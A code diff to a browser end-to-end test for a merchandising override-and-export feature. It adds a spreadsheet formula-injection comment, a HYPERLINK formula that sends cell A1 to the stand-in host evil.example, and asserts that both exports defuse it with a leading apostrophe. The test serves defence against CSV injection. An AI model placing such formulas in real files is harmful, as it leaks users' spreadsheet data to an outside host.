@@ -90,7 +90,8 @@ with sync_playwright() as p, tempfile.TemporaryDirectory() as profile:
     # "other" needs a comment: the form does not submit without one.
     out["comment_required"] = page.locator("#ov-comment").evaluate("e => e.required && e.validity.valueMissing")
     out["dialog_still_open"] = page.locator("#override-dialog").evaluate("d => d.open")
-    page.fill("#ov-comment", "Influencer post on Friday, café crème colour")
+    # A comment a spreadsheet would run as a formula: both exports must write it as text.
+    page.fill("#ov-comment", '=HYPERLINK("http://evil.example/?leak="&A1,"Influencer post on Friday, café crème colour")')
     page.get_by_role("button", name="Save override").click()
     expect(page.locator("#effective-verdict")).to_contain_text("keep")
     out["effective_after"] = page.locator("#effective-verdict").inner_text()
@@ -120,7 +121,9 @@ with sync_playwright() as p, tempfile.TemporaryDirectory() as profile:
     out["exported_comment"] = [r["override_comment"] for r in exported if r["style_id"] == style_id]
     out["shown"] = shown
     status, body = api("/v1/decisions?market=ALL&category=" + category + "&format=csv", merch)
-    out["api_rows"] = [[r["style_id"], r["market"], r["verdict"]] for r in csv.DictReader(io.StringIO(body.decode()))]
+    api_rows = list(csv.DictReader(io.StringIO(body.decode())))
+    out["api_rows"] = [[r["style_id"], r["market"], r["verdict"]] for r in api_rows]
+    out["api_comment"] = [r["override_comment"] for r in api_rows if r["style_id"] == style_id]
 
     # Revoke from the list: the model's verdict is back.
     page.fill("#search", style_id)
@@ -249,10 +252,10 @@ async fn a_merchandiser_filters_overrides_exports_and_revokes_in_a_real_browser(
     from_api.sort();
     assert!(!from_api.is_empty());
     assert_eq!(from_page, from_api);
-    assert_eq!(
-        v["exported_comment"],
-        serde_json::json!(["Influencer post on Friday, café crème colour"])
-    );
+    // Written with a leading ' so Excel shows the text instead of running it.
+    let defused = "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Influencer post on Friday, café crème colour\")";
+    assert_eq!(v["exported_comment"], serde_json::json!([defused]));
+    assert_eq!(v["api_comment"], serde_json::json!([defused]));
 
     assert_eq!(v["labels"], true, "every filter control has a label");
     assert_eq!(v["viewer_buttons"], 0, "a viewer sees no override buttons");
